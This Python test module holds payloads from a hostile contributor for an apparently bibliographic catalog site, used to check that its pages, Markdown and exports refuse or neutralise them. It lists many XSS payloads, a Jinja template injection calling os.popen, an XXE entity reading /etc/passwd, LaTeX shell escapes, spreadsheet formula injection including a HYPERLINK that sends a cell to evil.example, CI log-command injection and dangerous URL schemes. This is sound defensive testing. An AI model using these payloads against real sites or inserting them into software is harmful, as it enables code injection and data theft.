"""Texts of a hostile contributor, against browsers, Markdown, exports, logs and other programs."""

from __future__ import annotations

import re

RUN = "window.__pwned=1"
REFUSED_TEXTS = (
    # templates: if evaluated, the first is 7006652 and the second PWN42
    "{{ 1234*5678 }}",
    "{{ cycler.__init__.__globals__.os.popen('echo PWN$((6*7))').read() }}",
    "{% raw %}{% endraw %}{{ 1234*5678 }}",
    '{% include "catalog/list.html" %}',
    "{# an unclosed comment",
    "{{constructor.constructor('window.__pwned=1')()}}",
    # elements
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"'><svg onload={RUN}>",
    f'"><svg/onload={RUN} x="',
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea></template></noscript></style><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "<!-- an unclosed comment",
    f"--!><img src=x onerror={RUN}>",
    "<![CDATA[ <b>",
    "<?xml version='1.0'?><?php evil(); ?>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<textarea>",
    "<plaintext>",
    "<template><b>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<base href=https://evil.example/><a href=x>x</a>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img srcset='//evil.example/1x.png 1x' style=background:url(//evil.example)>",
    f"<form action=javascript:{RUN}><button formaction=javascript:{RUN} autofocus>x</button></form>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<details open ontoggle={RUN}><video><source onerror={RUN}></video></details>",
    f"<input autofocus onfocus={RUN}><marquee onstart={RUN}>x</marquee>",
    f"<object data=javascript:{RUN}></object><embed src=//evil.example/x.swf>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<ScRiPt\t>{RUN}</sCrIpT\t>",
    "</h1></article></main></body></html>",
    # placeholders in our own pages
    '<div id="catalog-fragment-0"></div>',
    "fill-content-<h1&#x27;-here",
    "fill-title-&#39;-here fill-head-&#x27;-here",
    "<base> &lt;base&gt; \0 {{ base }}",
    # attributes
    f'" onmouseover="{RUN}" x="',
    f'" autofocus onfocus="{RUN}',
    f"' onfocus='{RUN}' autofocus x='",
    f"` onmouseover={RUN} `",
    # Markdown
    f"{{: onclick={RUN} }}",
    f"# h {{: onmouseover={RUN} }}",
    f"[x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"![x](x){{ onerror={RUN} }}<i>",
    '--8<-- "mkdocs.yml"',
    # characters
    "\u202egnp.exe",
    "bell\u0007 and escape\u001b[31m",
    "zero\u200bwidth",
    f"nul\0<\0script>{RUN}",
    "a line\u2028::error ::b\u2029c\x85d",
    "a mark of order \ufeff, and \u2066turned\u2069",
    # for RIS and BibTeX
    "a\nER  - \n\nTY  - JOUR",
    "@article{evil, title = {Evil}}",
    "@comment{ @string{x = {y}} @preamble{",
)
"""Not plain text: the checks refuse each of them in every field."""
PLAIN_TEXTS = (
    "`code` **bold** _em_ ~~gone~~",
    "# h",
    "| a | b |",
    "[[wiki]] [x]: https://evil.example/ [^1] [TOC] *[HTML]: x",
    '!!! note "x"',
    "::: catalog.cli.main",
    "??? question",
    ":material-account: :tada: ++ctrl+c++ ==mark== ^^ins^^",
    "$$x$$ \\(x\\) \\[x\\]",
    "```mermaid",
    "$('#x') ${x} %s %(x)s {0} {x} \\1",
    "A < B > C & D",
    f'" style="x:expression({RUN})" x="',
    "*{background:url(//evil.example/x)}@import 'x';</ style>",
    "+ADw-script+AD4-window.__pwned+AD0-1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e \u02bcx\u02ba \u2039b\u203a",
    "p\u0430ypal and pаypal",
    # properties of every JavaScript object
    "constructor",
    "__proto__",
    "toString valueOf hasOwnProperty",
    "__proto__[pwned]=1&constructor.prototype.pwned=1",
    # other programs: XML, BibTeX, LaTeX, RIS, spreadsheets, workflow logs, email
    "]]>",
    "AT&T &amp without its end",
    "}, year = {1999}, note = {",
    "\\input{/etc/passwd} \\write18{id} \\catcode`\\%=12",
    "=cmd|'/C calc'!A0",
    "+1-1 @SUM(1)",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '","=1+1","',
    "::error file=x,line=1::gone",
    "%0A::add-mask::a %0d%0aSet-Cookie: a=b",
    "##[error]x ::stop-commands::x",
    "@everyone closes #1 and GH-2",
    f"https://ok.example/'onmouseover='{RUN}",  # a valid URL
)
"""Plain text that some programs might interpret."""
DANGEROUS_URLS = (
    f"javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"\u0001javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"JaVaScRiPt:{RUN}//https://ok.example/",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    f"vbscript:{RUN}",
    f"blob:https://ok.example/{RUN}",
    f"view-source:javascript:{RUN}",
    "//evil.example/x",
    "/\\evil.example/x",
    "https:evil.example",
    "https:///evil.example/",
    "\\\\evil.example\\x",
    "https://user:pass@evil.example/",
    "https://ok.example@evil.example/",
    "https://ok.example\\@evil.example/",
    "https://ev\u0456l.example/",
    "https://127.0.0.1/x",
    "https://[::1]/x",
    f'https://ok.example/" onmouseover="{RUN}',
    "https://ok.example/<script>",
    "https://ok.example/{{ 1234*5678 }}",
    "https://ok.example/\u202egnp.exe",
    "file:///etc/passwd",
    "mailto:a@evil.example",
)
"""URLs that must not become links."""
PAYLOADS = REFUSED_TEXTS + PLAIN_TEXTS + DANGEROUS_URLS
WORD = re.compile("[a-z_]+")


def hostile_id(kind: str, number: int) -> str:
    """Return the id of the hostile record with a payload: the text itself if it can be an id."""
    is_id = WORD.fullmatch(PAYLOADS[number]) and kind in ("venues", "categories", "tags")
    return PAYLOADS[number] if is_id else f"{kind}{number}-2020"
